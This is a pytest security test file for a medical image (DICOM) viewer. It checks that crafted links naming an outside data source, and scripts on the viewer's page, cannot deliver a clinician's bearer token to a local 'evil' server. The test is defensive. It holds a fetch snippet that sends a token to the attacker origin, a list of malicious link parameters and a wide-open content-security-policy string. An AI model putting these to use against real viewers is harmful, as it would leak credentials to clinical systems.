"""A link into the viewer that names another source of data: no word goes there, and no token."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlencode

import pytest
import viewer_kit
from builders import PixelFormat, chest_film, part10_bytes
from house import House
from playwright.sync_api import Browser
from viewer_kit import Site, chromium, site, visit
from werkzeug.serving import make_server

FILM = chest_film(PixelFormat(rows=64, columns=64), canaries=False)
SEND = "url => fetch(url, {headers: {Authorization: 'Bearer stolen'}}).then(() => 1, () => 0)"
OPEN = "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:{eval}{provider}"


@dataclass
class Evil:
    """A server that lets every page read it, and notes what it is sent."""

    origin: str = ""
    heads: list[dict[str, str]] = field(default_factory=list)

    def __call__(self, environ: dict[str, Any], start: Any) -> Iterable[bytes]:
        self.heads.append({name: value for name, value in environ.items() if isinstance(value, str)})
        roots = dict.fromkeys(("qidoRoot", "wadoRoot", "wadoUriRoot"), f"{self.origin}/dicomweb")
        source = {"friendlyName": "evil", "name": "evil", "imageRendering": "wadors", **roots}
        body = json.dumps({"servers": {"dicomWeb": [source]}, "studies": []}).encode()
        allowed = [(f"Access-Control-Allow-{name}", "*") for name in ("Origin", "Methods")]
        allowed.append(("Access-Control-Allow-Headers", "authorization, accept, content-type"))
        start("200 OK", [("Content-Type", "application/json"), *allowed])
        return [body if environ["PATH_INFO"].endswith(".json") else b"[]"]


@pytest.fixture
def evil() -> Iterator[Evil]:
    made = Evil()
    server = make_server("127.0.0.1", 0, made, threaded=True)
    made.origin = f"http://127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield made
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with House(tmp_path_factory.mktemp("sources")) as house:
        assert house.store(part10_bytes(FILM)).status_code == 200
        house.screen()
        with site(house) as made:
            yield made


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as one:
        yield one


def follow(browser: Browser, served: Site, evil: Evil, *places: str) -> list[str]:
    """Open links that name the evil source, each in a tab of its own; returns the tokens that got there."""
    with visit(browser, served, served.house.token("clinician")) as seen:
        # Nothing but the viewer and its page's policy stands between.
        seen.page.context.unroute_all()
        tabs = [seen.page.context.new_page() for _ in places]
        for tab, place in zip(tabs, places, strict=True):
            tab.goto(f"{served.origin}{place}", wait_until="domcontentloaded")
        for tab in tabs:
            tab.wait_for_load_state("networkidle")
        seen.page.wait_for_timeout(1_500)
    return _tokens(evil)


def _tokens(evil: Evil) -> list[str]:
    return [head["HTTP_AUTHORIZATION"] for head in evil.heads if "HTTP_AUTHORIZATION" in head]


def links(evil: Evil) -> list[str]:
    study = str(FILM.StudyInstanceUID)
    at = f"{evil.origin}/source.json"
    named = urlencode({"StudyInstanceUIDs": study, "url": at})
    return [
        *(f"/viewer/{source}?{named}" for source in ("dicomwebproxy", "dicomjson", "dicomweb")),
        f"/viewer?{named}",
        *(f"{page}?{urlencode({'url': at})}" for page in ("/", "/dicomwebproxy", "/dicomjson")),
        *(f"/?{urlencode({name: at})}" for name in ("configUrl", "config", "qidoRoot", "wadoRoot")),
    ]


def test_a_T9_no_link_leads_the_viewer_s_token_to_another_source(browser: Browser, served: Site, evil: Evil) -> None:
    assert follow(browser, served, evil, *links(evil)) == []
    assert evil.heads == []


def test_a_T9_a_careless_viewer_s_token_is_held_back_by_the_policy_of_its_page(
    browser: Browser, served: Site, evil: Evil, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A viewer that takes any source sends the token there, unless its page names the origins that it talks to."""
    assert _sent(browser, served, evil) == []
    assert evil.heads == []
    monkeypatch.setattr(viewer_kit, "_POLICY", OPEN)
    assert _sent(browser, served, evil) == ["Bearer stolen"]


def _sent(browser: Browser, served: Site, evil: Evil) -> list[str]:
    """The tokens that get there if a script of the viewer's page sends one."""
    with visit(browser, served, served.house.token("clinician")) as seen:
        seen.page.context.unroute_all()
        seen.page.goto(f"{served.origin}/", wait_until="domcontentloaded")
        seen.page.evaluate(SEND, f"{evil.origin}/dicomweb/studies")
    return _tokens(evil)
